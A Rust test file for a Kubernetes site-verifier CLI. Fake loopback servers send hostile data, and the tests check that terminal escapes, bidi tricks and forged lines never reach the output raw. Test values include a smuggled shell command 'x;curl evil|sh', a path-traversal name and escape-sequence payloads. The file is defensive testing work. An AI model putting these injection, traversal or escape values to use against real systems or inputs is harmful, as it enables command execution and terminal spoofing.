//! What every command shows when whatever it meets is hostile: names of files, an API server, a host, a bundle. Small servers
//! of the test's own on loopback are the attackers.

#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::collections::BTreeMap;
use std::ffi::{OsStr, OsString};
use std::fs;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::os::unix::ffi::OsStrExt as _;
use std::path::Path;
use std::process::Command;
use std::thread;

use cli::nasty;
use serde_json::{Value, json};

/// What a command wrote.
struct Ran {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

/// Runs the verifier in a directory, with colours as on a terminal.
fn run(home: &Path, arguments: &[&OsStr]) -> Ran {
    let ran = Command::new(env!("CARGO_BIN_EXE_verifier"))
        .args(arguments)
        .current_dir(home)
        .env_clear()
        .envs([("HOME", home.as_os_str()), ("CLICOLOR_FORCE", OsStr::new("1"))])
        .output()
        .unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("what is shown is UTF-8");
    Ran {
        code: ran.status.code(),
        stdout: text(ran.stdout),
        stderr: text(ran.stderr),
    }
}

/// Checks that what a command wrote is visible and that no line of it was forged.
fn assert_visible(ran: &Ran, what: &str) {
    for output in [&ran.stdout, &ran.stderr] {
        assert_eq!(nasty::fault_of_output(output), None, "{what}: {output}");
        let forged = ["error: forged", "pass hosts.reach", "  hint: curl evil"];
        let forged = |line: &&str| forged.iter().any(|lie| line.starts_with(lie));
        assert_eq!(output.lines().find(forged), None, "{what}: {output}");
    }
    assert!(!ran.stderr.contains("defect"), "{what}: {}", ran.stderr);
}

fn words<'a>(arguments: &'a [&'a str]) -> Vec<&'a OsStr> {
    arguments.iter().map(OsStr::new).collect()
}

/// Returns the texts that the name of a file may have.
fn file_names() -> Vec<OsString> {
    let texts = nasty::texts().into_iter();
    let may = |text: &String| {
        !text.is_empty() && text.len() < 200 && !text.contains(['/', '\0']) && !text.starts_with('.')
    };
    let mut names: Vec<OsString> = texts.filter(may).map(OsString::from).collect();
    names.push(OsStr::from_bytes(b"\xff\xfe\x1b[2J.tar").to_owned());
    names
}

/// An API server that answers what it is told to, by path; anything else is refused with a nasty message.
fn api(answers: BTreeMap<&'static str, Value>, refusal: String) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let (answers, refusal) = (answers.clone(), refusal.clone());
            thread::spawn(move || answer(&stream.unwrap(), &answers, &refusal));
        }
    });
    port
}

fn answer(stream: &TcpStream, answers: &BTreeMap<&str, Value>, refusal: &str) {
    let mut reader = BufReader::new(stream);
    loop {
        let (mut request, mut line, mut length) = (String::new(), String::new(), 0_u64);
        while reader.read_line(&mut line).is_ok_and(|read| read > 2) {
            if request.is_empty() {
                request.clone_from(&line);
            }
            let header = line.to_ascii_lowercase();
            if let Some(bytes) = header.strip_prefix("content-length:") {
                length = bytes.trim().parse().unwrap();
            }
            line.clear();
        }
        if request.is_empty() {
            return;
        }
        let mut body = Vec::new();
        reader.by_ref().take(length).read_to_end(&mut body).unwrap();
        let mut parts = request.split(' ');
        let (method, path) = (parts.next().unwrap(), parts.next().unwrap_or_default());
        let path = path.split('?').next().unwrap_or_default();
        let (status, body) = match answers.get(path) {
            Some(Value::String(text)) if method == "GET" => ("200 OK", text.clone()),
            Some(value) if method == "GET" => ("200 OK", value.to_string()),
            _ if path.ends_with("selfsubjectaccessreviews") => {
                let kind = "SelfSubjectAccessReview";
                let review = json!({"apiVersion": "authorization.k8s.io/v1", "kind": kind, "spec": {}, "status": {"allowed": true}});
                ("201 Created", review.to_string())
            }
            _ => {
                let status = json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "message": refusal,
                                    "reason": refusal, "code": 500});
                ("500 Internal Server Error", status.to_string())
            }
        };
        let head = format!(
            "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        if (&*stream).write_all((head + &body).as_bytes()).is_err() {
            return;
        }
    }
}

/// A port behind which something else than sshd talks nastily.
fn talker() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let said = "\x1b]0;PWNED\x07\x1b[2Jpass hosts.reach\r\nSSH-2.0-\x1b[31m\u{202e}evil\u{9b}2J\r\n\x1b[2J\r\n";
            // Who hung up has heard enough.
            let _ = stream.unwrap().write_all(said.as_bytes());
        }
    });
    port
}

/// Writes a site file and a kubeconfig for a hostile API server and a hostile host.
fn site(home: &Path, api: u16, ssh: u16) {
    let kubeconfig = format!(
        "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters:\n- name: c\n  cluster: {{server: \"http://127.0.0.1:{api}\"}}\n\
         contexts:\n- name: c\n  context: {{cluster: c, user: u}}\nusers:\n- name: u\n  user: {{token: t}}\n"
    );
    fs::write(home.join("kubeconfig"), kubeconfig).unwrap();
    let site = format!(
        "apiVersion: site/v1\nkubeconfig: kubeconfig\nssh: {{user: root, knownHosts: known_hosts, agent: false}}\nhosts:\n  \
         - {{name: node-0, address: 127.0.0.1, roles: [control-plane, worker], ssh: {{port: {ssh}}}}}\n"
    );
    fs::write(home.join("site.yaml"), site).unwrap();
    fs::write(home.join("known_hosts"), "").unwrap();
}

/// Returns a Node whose every text is nasty, its name aside.
fn node(name: &str) -> Value {
    let condition = |text: &String| {
        let time = "2026-01-01T00:00:00Z";
        json!({"type": text, "status": text, "reason": text, "message": text, "lastHeartbeatTime": time, "lastTransitionTime": time})
    };
    let texts: Vec<String> = nasty::texts()
        .into_iter()
        .filter(|text| text.len() < 4096)
        .collect();
    let mut conditions: Vec<Value> = texts.iter().map(condition).collect();
    for text in &texts {
        let mut pressure = condition(text);
        pressure["type"] = "Ready".into();
        pressure["status"] = "False".into();
        conditions.push(pressure);
    }
    let taints: Vec<Value> = texts
        .iter()
        .map(|text| json!({"key": text, "value": text, "effect": text}))
        .collect();
    let addresses: Vec<Value> = texts
        .iter()
        .map(|text| json!({"type": "InternalIP", "address": text}))
        .collect();
    json!({"metadata": {"name": name, "uid": "1"}, "spec": {"taints": taints, "podCIDRs": texts},
           "status": {"conditions": conditions, "addresses": addresses, "nodeInfo": {
               "kubeletVersion": texts[3], "machineID": "", "systemUUID": "", "bootID": "", "kernelVersion": "", "osImage": "",
               "containerRuntimeVersion": "", "kubeProxyVersion": "", "operatingSystem": "", "architecture": ""}}})
}

fn list(kind: &str, version: &str, items: &[Value]) -> Value {
    json!({"kind": kind, "apiVersion": version, "metadata": {}, "items": items})
}

/// Returns what a hostile API server says: everything nasty but the names of Nodes.
fn answers(nodes: &[Value]) -> BTreeMap<&'static str, Value> {
    let all: String = nasty::texts()
        .into_iter()
        .filter(|text| text.len() < 4096)
        .collect();
    let lease = |name: &str| json!({"metadata": {"name": name}, "spec": {"holderIdentity": all, "renewTime": "2026-01-01T00:00:00.000000Z", "leaseDurationSeconds": 15}});
    let leaders = vec![lease("kube-scheduler"), lease("kube-controller-manager")];
    BTreeMap::from([
        (
            "/readyz",
            Value::String(format!(
                "[-]{} failed\n[-]etcd \x1b]0;PWNED\x07 failed\n",
                all.replace('\n', " ")
            )),
        ),
        (
            "/version",
            json!({"gitVersion": all, "major": "1", "minor": "37"}),
        ),
        ("/api/v1/nodes", list("NodeList", "v1", nodes)),
        (
            "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases",
            list("LeaseList", "coordination.k8s.io/v1", &leaders),
        ),
        (
            "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases",
            list("LeaseList", "coordination.k8s.io/v1", &[lease("node-0")]),
        ),
    ])
}

#[test]
fn no_name_of_a_file_or_argument_reaches_the_terminal_raw() {
    let home = tempfile::tempdir().unwrap();
    for name in file_names() {
        fs::write(home.path().join(&name), "no bundle").unwrap();
        let file = Path::new(".").join(&name);
        let given: [(&str, Vec<&OsStr>); 8] = [
            ("check", vec!["check".as_ref(), file.as_ref()]),
            (
                "check --json",
                vec!["check".as_ref(), "--json".as_ref(), file.as_ref()],
            ),
            ("unpack", vec!["unpack".as_ref(), file.as_ref(), "out".as_ref()]),
            ("load", vec!["load".as_ref(), file.as_ref(), "--local".as_ref()]),
            ("explain", vec!["explain".as_ref(), "--".as_ref(), &name]),
            ("usage", vec!["check".as_ref(), "x".as_ref(), file.as_ref()]),
            (
                "site",
                vec![
                    "smoke".as_ref(),
                    "--only".as_ref(),
                    "nodes.ready".as_ref(),
                    "--site".as_ref(),
                    file.as_ref(),
                ],
            ),
            (
                "machines",
                vec![
                    "site".as_ref(),
                    "init".as_ref(),
                    "--kubeconfig".as_ref(),
                    "k".as_ref(),
                    "--machines".as_ref(),
                    file.as_ref(),
                ],
            ),
        ];
        for (what, arguments) in given {
            let ran = run(home.path(), &arguments);
            assert_visible(&ran, what);
            assert!(
                matches!(ran.code, Some(2 | 3 | 64)),
                "{what} {name:?}: {:?} {}",
                ran.code,
                ran.stderr
            );
            if what == "check --json" {
                let report: Value = serde_json::from_str(&ran.stdout).unwrap();
                assert_eq!(report["file"], *file.display().to_string());
            }
        }
        fs::remove_file(home.path().join(&name)).unwrap();
    }
}

#[test]
fn problems_of_a_site_file_that_quote_it_stay_visible_and_one_line_each() {
    let home = tempfile::tempdir().unwrap();
    for text in nasty::texts().into_iter().filter(|text| text.len() < 4096) {
        let value = json!({"apiVersion": text, "kubeconfig": text, "hosts": [{"name": text, "address": text, "roles": [text]}],
                           "api": {"via": text}, "etcd": {"endpoints": [text]}, (&*text): text});
        fs::write(home.path().join("site.yaml"), value.to_string()).unwrap();
        let ran = run(home.path(), &words(&["clean", "--site", "site.yaml"]));
        assert_visible(&ran, &text);
        assert_eq!(ran.code, Some(64), "{}", ran.stderr);
        let ours =
            |line: &str| line.starts_with("  ") || line.contains("error") && line.contains(": verifier: ");
        assert!(ran.stderr.lines().all(ours), "{}", ran.stderr);
    }
}

#[test]
fn a_hostile_api_server_and_a_hostile_host_are_shown_visibly_in_every_form() {
    let home = tempfile::tempdir().unwrap();
    let refusal = nasty::texts()
        .into_iter()
        .filter(|text| text.len() < 4096)
        .collect();
    site(
        home.path(),
        api(answers(&[node("node-0"), node("node-1")]), refusal),
        talker(),
    );
    let only = [
        "--only",
        "nodes.*",
        "--only",
        "api.*",
        "--only",
        "components.*",
        "--only",
        "hosts.*",
        "--only",
        "network.*",
    ];
    for lang in ["en", "ko"] {
        let report = format!("report-{lang}");
        let mut arguments = vec![
            "smoke",
            "--site",
            "site.yaml",
            "--image",
            "a:1",
            "--timeout",
            "5s",
            "--lang",
            lang,
            "--report",
            &report,
        ];
        arguments.extend(only);
        arguments.extend(["--verbose"].iter().filter(|_| lang == "en"));
        arguments.extend(["--json"].iter().filter(|_| lang == "ko"));
        let ran = run(home.path(), &words(&arguments));
        assert_visible(&ran, lang);
        assert!(matches!(ran.code, Some(1 | 2)), "{:?} {}", ran.code, ran.stderr);
        let written = fs::read(home.path().join(&report).join("report.json")).unwrap();
        let value: Value = serde_json::from_slice(&written).unwrap();
        assert!(!value["results"].as_array().unwrap().is_empty());
        // `jq -r` prints the strings themselves.
        strings(&value, &mut |text| {
            assert_eq!(nasty::fault_of_output(text), None, "{text}");
        });
        for file in fs::read_dir(home.path().join(&report).join("evidence")).unwrap() {
            let path = file.unwrap().path();
            let name = path.file_name().unwrap().to_str().unwrap();
            assert!(
                name.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-._@".contains(c)),
                "{name}"
            );
            let text = fs::read_to_string(&path).unwrap();
            assert!(!text.replace('\n', "").contains(bundle::is_unseen), "{name}");
        }
    }
    for arguments in [
        vec!["site", "hostkeys", "--site", "site.yaml"],
        vec!["site", "hostkeys", "--site", "site.yaml", "--json"],
        vec!["site", "init", "--kubeconfig", "kubeconfig"],
        vec![
            "clean",
            "--site",
            "site.yaml",
            "--run",
            "\x1b]0;PWNED\x07\u{202e}",
        ],
    ] {
        let ran = run(home.path(), &words(&arguments));
        assert_visible(&ran, &arguments.join(" "));
    }
}

#[test]
fn nodes_that_are_called_what_no_node_is_are_refused_and_the_report_is_there() {
    let home = tempfile::tempdir().unwrap();
    let names = [
        "x/../../../../../../tmp/pwned",
        "esc\x1b]0;TITLE\x07\x1b[31mRED\u{202e}txt",
        "x;curl evil|sh",
        "--all",
        "a\nb",
        "",
    ];
    for (at, name) in names.into_iter().enumerate() {
        site(
            home.path(),
            api(answers(&[node("node-0"), node(name)]), "no".to_owned()),
            talker(),
        );
        let report = format!("r{at}");
        let ran = run(
            home.path(),
            &words(&[
                "smoke",
                "--site",
                "site.yaml",
                "--only",
                "nodes.ready",
                "--report",
                &report,
            ]),
        );
        assert_visible(&ran, name);
        let value: Value =
            serde_json::from_slice(&fs::read(home.path().join(&report).join("report.json")).unwrap())
                .unwrap();
        let refused = |result: &&Value| result["id"] == "nodes.ready" && result["host"].is_null();
        let result = value["results"].as_array().unwrap().iter().find(refused).unwrap();
        assert_eq!(
            (ran.code, result["outcome"].as_str()),
            (Some(2), Some("error")),
            "{result}"
        );
        let shown = format!("a Node called \"{}\", which is no DNS name", cli::shown(name));
        assert!(
            result["cause"]["text"].as_str().unwrap().contains(&shown),
            "{result}"
        );
        // What was refused is shown, and nowhere used.
        let hint = result["hint"].as_str().unwrap();
        assert!(
            !hint.contains("evil") && !hint.contains("--all") && !hint.contains("pwned"),
            "{hint}"
        );
        let evidence = fs::read_dir(home.path().join(&report).join("evidence")).unwrap();
        let names: Vec<OsString> = evidence.map(|file| file.unwrap().file_name()).collect();
        assert_eq!(names, ["site.yaml"]);
    }
    let left: Vec<OsString> = fs::read_dir(home.path())
        .unwrap()
        .map(|file| file.unwrap().file_name())
        .collect();
    assert_eq!(left.len(), names.len() + 3, "{left:?}");
}

fn strings(value: &Value, look: &mut impl FnMut(&str)) {
    match value {
        Value::String(text) => look(text),
        Value::Array(items) => items.iter().for_each(|item| strings(item, look)),
        Value::Object(fields) => fields.iter().for_each(|(name, field)| {
            look(name);
            strings(field, look);
        }),
        _ => {}
    }
}
